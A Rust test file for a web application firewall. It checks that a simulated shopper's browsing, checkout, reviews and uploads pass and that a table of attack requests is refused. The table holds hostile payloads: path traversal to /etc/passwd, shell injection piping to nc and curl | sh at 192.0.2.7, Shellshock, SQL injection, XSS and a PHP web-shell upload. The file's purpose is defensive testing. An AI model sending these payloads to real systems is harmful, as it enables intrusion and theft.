//! A shop behind the WAF in blocking mode at paranoia level 1: who shops there is never refused, who attacks it is.

use seawall_tests::{Edge, Origin, Response, Running, Shop};
use std::collections::BTreeMap;

/// The shop, its JSON API below `/api`, and what else a site takes (reviews, uploads) below `/take`.
fn shop(rules: &str) -> (Running, Shop, Origin) {
    let taker = Origin::start();
    let edge = Edge::yaml("");
    let shop = Shop::start(&edge.path(""));
    edge.rewrite(format!(
        "wafs: {{ site: {{ rules: {rules}, mode: block, paranoia: 1 }} }}
sites:
  - host: shop.test
    waf: site
    routes:
      - {{ path: /take, to: \"{taker}\" }}
      - {{ path: /api/, rewrite: {{ strip: /api }}, to: \"{}\" }}
      - {{ path: /, to: \"{}\" }}",
        shop.api, shop.web
    ));
    (edge.start(), shop, taker)
}

/// A browser with its cookies.
struct Browser<'a> {
    edge: &'a Running,
    cookies: BTreeMap<String, String>,
    page: String,
    asked: usize,
}

impl<'a> Browser<'a> {
    fn new(edge: &'a Running) -> Self {
        let theirs = [
            ("_ga", "GA1.2.1234567890.1796012755"),
            (
                "consent",
                "%7B%22analytics%22%3Atrue%2C%22ads%22%3Afalse%7D",
            ),
            ("theme", "dark"),
        ];
        Self {
            edge,
            cookies: theirs.map(|(n, v)| (n.to_owned(), v.to_owned())).into(),
            page: "/".to_owned(),
            asked: 0,
        }
    }

    fn send(&mut self, method: &str, target: &str, kind: &str, body: &[u8]) -> Response {
        let cookies: Vec<String> = self
            .cookies
            .iter()
            .map(|(n, v)| format!("{n}={v}"))
            .collect();
        let mut request = format!(
            "{method} {target} HTTP/1.1\r\nHost: shop.test\r\n\
             User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n\
             Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.7,de;q=0.3\r\n\
             Accept-Encoding: identity\r\nReferer: http://shop.test{}\r\nCookie: {}\r\nUpgrade-Insecure-Requests: 1\r\n\
             Sec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: same-origin\r\nPriority: u=0, i\r\n",
            self.page,
            cookies.join("; ")
        );
        if !kind.is_empty() {
            request += &format!(
                "Origin: http://shop.test\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n",
                body.len()
            );
        }
        let response = self
            .edge
            .exchange([request.as_bytes(), b"\r\n", body].concat());
        for (name, value) in &response.fields {
            if name.eq_ignore_ascii_case("set-cookie")
                && let Some((name, value)) = value.split(';').next().and_then(|c| c.split_once('='))
            {
                self.cookies.insert(name.to_owned(), value.to_owned());
            }
        }
        self.asked += 1;
        response
    }

    /// A page, as long as it leads elsewhere; it is the next request's referrer.
    fn open(&mut self, target: &str) -> String {
        let mut target = target.to_owned();
        loop {
            let response = self.send("GET", &target, "", b"");
            self.page.clone_from(&target);
            match response.field("Location") {
                Some(to) => target = to.trim_start_matches("http://shop.test").to_owned(),
                None => {
                    assert_eq!(response.status, 200, "{target}: {}", response.text());
                    return response.text();
                }
            }
        }
    }

    /// A form, and the page that follows.
    fn submit(&mut self, target: &str, fields: &[(&str, &str)]) -> String {
        let body: Vec<String> = fields
            .iter()
            .map(|(n, v)| format!("{n}={}", escaped(v)))
            .collect();
        let body = body.join("&");
        let sent = self.send(
            "POST",
            target,
            "application/x-www-form-urlencoded",
            body.as_bytes(),
        );
        assert_eq!(sent.status, 303, "{target} {body}: {}", sent.text());
        let to = sent.has("Location").to_owned();
        self.open(&to)
    }
}

/// As forms escape it.
fn escaped(text: &str) -> String {
    let one = |b: u8| match b {
        b' ' => "+".to_owned(),
        b if b.is_ascii_alphanumeric() || b"*-._".contains(&b) => char::from(b).to_string(),
        b => format!("%{b:02X}"),
    };
    text.bytes().map(one).collect()
}

/// The addresses on a page, of this site.
fn links(page: &str) -> Vec<String> {
    let attributes = [" href=\"", " src=\"", " action=\""];
    let mut found: Vec<String> = attributes
        .iter()
        .flat_map(|attribute| page.split(attribute).skip(1))
        .filter_map(|rest| rest.split('"').next())
        .filter(|link| link.starts_with('/') && !link.starts_with("//"))
        .map(|link| link.replace("&amp;", "&"))
        .collect();
    found.sort();
    found.dedup();
    found
}

/// The value of a hidden input.
fn hidden<'a>(page: &'a str, name: &str) -> &'a str {
    let rest = page.split(&format!("name=\"{name}\" value=\"")).nth(1);
    rest.and_then(|rest| rest.split('"').next())
        .unwrap_or_else(|| panic!("{name} in {page}"))
}

const REVIEWS: &[&str] = &[
    "# Five stars\n\nReally *warm*; select the next size up. I'd buy it again!\n\n- fits well\n- dries fast; set it by the fire\n\n> \"Best jumper I own\" -- my brother\n",
    "It's great, isn't it? \"Quotes\", 'more quotes' -- and a dash.\nFind it in the sale; sort by price; time well spent.\n\n1. Create a list\n2. Drop it in the cart\n3. Order by phone or e-mail\n",
    "## Care\n\nWash at 30 \u{b0}C (cold), dry flat.\n\n```\nwash(30); dry();\nif (wool && !hot) { iron(); }\n```\n\nSee [the care page](/care) (and [this one](https://example.org/wool?a=1&b=2)).\n",
    "| size | chest | length |\n|---|---|---|\n| S | 92 | 66 |\n| M | 98 | 68 |\n\n`M` is right for me; more or less. Type: crew neck. Source: the label.\n",
    "\u{41e}\u{447}\u{435}\u{43d}\u{44c} \u{442}\u{451}\u{43f}\u{43b}\u{44b}\u{439} \u{441}\u{432}\u{438}\u{442}\u{435}\u{440}, \u{43c}\u{43d}\u{435} \u{43f}\u{43e}\u{43d}\u{440}\u{430}\u{432}\u{438}\u{43b}\u{441}\u{44f}. \u{3a0}\u{3bf}\u{3bb}\u{3cd} \u{3ba}\u{3b1}\u{3bb}\u{3cc}. \u{1f9f6}\u{1f44d} Gr\u{fc}\u{df}e, Zo\u{eb} O'Quay & Co.",
    "Where do I order by the dozen? Union Jack mugs, please, or 1 = one? 50% off & free postage < \u{a3}20 > nothing. Who am I to ask; id rather wait.",
];

/// What a visitor does who looks at everything and buys something.
fn visit(edge: &Running, taker: &Origin) {
    let mut browser = Browser::new(edge);
    // Every page that is linked, and what they are made of.
    let mut seen = vec!["/".to_owned()];
    let mut next = 0;
    while let Some(target) = seen.get(next).cloned().filter(|_| next < 90) {
        let response = browser.send("GET", &target, "", b"");
        assert_ne!(response.status, 403, "{target}");
        browser.page.clone_from(&target);
        if response
            .field("Content-Type")
            .is_some_and(|t| t.starts_with("text/html"))
        {
            for link in links(&response.text()) {
                if !seen.contains(&link) {
                    seen.push(link);
                }
            }
        }
        next += 1;
    }
    assert!(next > 40, "{seen:?}");
    for q in [
        "navy mug",
        "men's jumpers",
        "rock & roll",
        "caf\u{e9}",
        "5\" lantern",
        "wool or cotton",
        "50% off; new",
    ] {
        browser.open(&format!("/search?q={}", escaped(q)));
    }
    let product = seen
        .iter()
        .find_map(|link| link.strip_prefix("/products/"))
        .expect("a product");
    let cart = browser.submit("/cart/add", &[("product", product), ("quantity", "2")]);
    let token = hidden(&cart, "token").to_owned();
    browser.submit(
        "/cart/update",
        &[("token", &token), ("product", product), ("quantity", "1")],
    );
    let form = browser.open("/checkout");
    let (token, attempt) = (
        hidden(&form, "token").to_owned(),
        hidden(&form, "attempt").to_owned(),
    );
    let order = [
        ("token", token.as_str()),
        ("attempt", attempt.as_str()),
        ("name", "Zo\u{eb} O'Quay-M\u{fc}ller"),
        ("email", "zoe+shop@example.test"),
        ("street", "1a The Mole & Pier, 2nd floor; ring twice"),
        ("city", "St. John's"),
        ("postcode", "AB1 2CD"),
    ];
    let done = browser.submit("/checkout", &order);
    assert!(
        browser.page.starts_with("/orders/") && done.contains("Zo\u{eb}"),
        "{done}"
    );
    // The API, as a page's script uses it.
    let mut json = |method: &str, target: &str, body: &str| {
        let kind = if body.is_empty() {
            ""
        } else {
            "application/json"
        };
        let status = browser.send(method, target, kind, body.as_bytes()).status;
        assert_ne!(status, 403, "{method} {target} {body}");
    };
    json("GET", "/api/products?per_page=9&sort=price_asc", "");
    json(
        "POST",
        "/api/carts/abcdefabcdef",
        &format!("{{\"product\":\"{product}\",\"quantity\":1,\"set\":true}}"),
    );
    json(
        "PUT",
        "/take/profile",
        r#"{"name":"Zoë O'Quay","bio":"I sell sea shells; select few\nby the sea","tags":["a/b","c++","<3"],"n":null}"#,
    );
    json(
        "PATCH",
        "/take/profile/1",
        r#"{"newsletter":true,"price":{"from":10,"to":20.5}}"#,
    );
    json("DELETE", "/take/wishlist/42", "");
    for text in REVIEWS {
        let value = serde_json::json!({ "title": "It's fine", "text": text, "stars": 5 });
        json("POST", "/take/reviews", &value.to_string());
    }
    for text in REVIEWS {
        let body = format!("stars=5&title=It%27s+fine&text={}", escaped(text));
        let sent = browser.send(
            "POST",
            "/take/reviews",
            "application/x-www-form-urlencoded",
            body.as_bytes(),
        );
        assert_eq!(sent.status, 200, "{text}: {}", sent.text());
        assert_eq!(taker.last().body, body.as_bytes());
    }
    // A photograph with its words: bytes of every kind.
    let mut image: Vec<u8> = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01".to_vec();
    image.extend((0..40_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8));
    let part = |head: &str, body: &[u8]| {
        [
            format!("--B0undary\r\nContent-Disposition: form-data; {head}\r\n\r\n").as_bytes(),
            body,
            b"\r\n",
        ]
        .concat()
    };
    let body = [
        part("name=\"text\"", REVIEWS[0].replace('\n', "\r\n").as_bytes()),
        part(
            "name=\"photo\"; filename=\"my jumper (2).jpg\"\r\nContent-Type: image/jpeg",
            &image,
        ),
        b"--B0undary--\r\n".to_vec(),
    ]
    .concat();
    let sent = browser.send(
        "POST",
        "/take/photos",
        "multipart/form-data; boundary=B0undary",
        &body,
    );
    assert_eq!(sent.status, 200, "{}", sent.text());
    assert!(taker.last().body == body);
    let sent = browser.send("PUT", "/take/photos/1.jpg", "image/jpeg", &image);
    assert_eq!(sent.status, 200, "{}", sent.text());
    assert!(browser.asked > 80);
    edge.counts(
        "seawall_waf_requests_total{action=\"denied\",site=\"shop.test\"}",
        0,
    );
}

/// One or more requests of each family of attacks: its name, target, further fields, type and body.
const ATTACKS: &[(&str, &str, &str, &str, &str)] = &[
    ("lfi", "/search?q=../../../../../etc/passwd", "", "", ""),
    ("lfi", "/take/?file=..%2f..%2f..%2fetc%2fshadow", "", "", ""),
    ("rfi", "/take/?page=http://192.0.2.7/shell.txt?", "", "", ""),
    ("rce", "/take/?host=127.0.0.1;cat%20/etc/passwd", "", "", ""),
    (
        "rce",
        "/take/reviews",
        "",
        "application/x-www-form-urlencoded",
        "text=fine%3B+cat+%2Fetc%2Fpasswd+%7C+nc+192.0.2.7+99",
    ),
    (
        "rce",
        "/take/reviews",
        "",
        "application/json",
        r#"{"text":"fine $(curl http://192.0.2.7/x | sh)"}"#,
    ),
    (
        "rce",
        "/take/",
        "User-Agent: () { :;}; /bin/bash -c id\r\n",
        "",
        "",
    ),
    ("php", "/take/?p=%3C?php%20phpinfo();%20?%3E", "", "", ""),
    (
        "php",
        "/take/reviews",
        "",
        "application/x-www-form-urlencoded",
        "text=(%22system%22)(%22ls%22)%3B",
    ),
    (
        "node",
        "/take/?x=require('child_process').exec('id')",
        "",
        "",
        "",
    ),
    (
        "node",
        "/take/api",
        "",
        "application/json",
        r#"{"a":"_$$ND_FUNC$$_function(){require('child_process')}()"}"#,
    ),
    (
        "xss",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "",
        "",
        "",
    ),
    (
        "xss",
        "/take/reviews",
        "",
        "application/x-www-form-urlencoded",
        "text=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
    ),
    ("sqli", "/search?q=%27%20or%201%3D1--%20-", "", "", ""),
    (
        "sqli",
        "/take/login",
        "",
        "application/x-www-form-urlencoded",
        "user=admin%27--&password=%27+or+%271%27%3D%271",
    ),
    (
        "sqli",
        "/take/reviews",
        "",
        "application/json",
        r#"{"text":"1' union select password from users-- -"}"#,
    ),
    (
        "session fixation",
        "/take/?x=%3Cscript%3Edocument.cookie=%22sid=1;%20domain=.shop.test%22%3C/script%3E",
        "",
        "",
        "",
    ),
    (
        "session fixation",
        "/take/?jsessionid=0123456789abcdef",
        "Referer: http://evil.test/\r\n",
        "",
        "",
    ),
    (
        "java",
        "/take/?x=java.lang.Runtime.getRuntime().exec(1)",
        "",
        "",
        "",
    ),
    (
        "java",
        "/take/",
        "Referer: http://a.test/?x=java.lang.ProcessBuilder\r\n",
        "",
        "",
    ),
    ("scanner", "/", "User-Agent: sqlmap/1.7\r\n", "", ""),
    (
        "protocol",
        "/take/?x=a%0d%0aSet-Cookie:%20sid=1",
        "",
        "",
        "",
    ),
    ("protocol", "/take/?x=%00", "", "", ""),
    ("content type", "/take/", "", "application/x-evil", "a=1"),
    (
        "multipart",
        "/take/up",
        "",
        "multipart/form-data; boundary=B",
        "--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--C\r\n",
    ),
    (
        "multipart",
        "/take/up",
        "",
        "multipart/form-data; boundary=B",
        "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--B--\r\n",
    ),
];

/// What of [`ATTACKS`] is not refused, but for the families that a rule set leaves out.
fn passed(edge: &Running, without: &[&str]) -> Vec<String> {
    let mut passed = Vec::new();
    for (family, target, fields, kind, body) in ATTACKS {
        if without.contains(family) {
            continue;
        }
        let mut head = format!(
            "{} {target} HTTP/1.1\r\nHost: shop.test\r\nAccept: */*\r\n{fields}",
            if body.is_empty() { "GET" } else { "POST" }
        );
        if !fields.contains("User-Agent") {
            head += "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n";
        }
        if !body.is_empty() {
            head += &format!("Content-Type: {kind}\r\nContent-Length: {}\r\n", body.len());
        }
        let status = edge.exchange(format!("{head}\r\n{body}")).status;
        if status != 403 && status != 400 {
            passed.push(format!("{family}: {target} {fields} {body}: {status}"));
        }
    }
    passed
}

#[test]
fn with_the_core_rule_set_a_visitor_buys_and_each_family_of_attacks_is_refused() {
    let (edge, _shop, taker) = shop("owasp-crs");
    visit(&edge, &taker);
    let before = taker.connections();
    assert_eq!(passed(&edge, &[]), Vec::<String>::new());
    assert_eq!(
        taker.connections(),
        before,
        "nothing of it reached an origin"
    );
}

#[test]
fn with_the_built_in_rules_a_visitor_buys_and_attacks_are_refused() {
    let (edge, _shop, taker) = shop("builtin");
    visit(&edge, &taker);
    assert_eq!(
        passed(&edge, &["session fixation", "content type"]),
        Vec::<String>::new()
    );
}
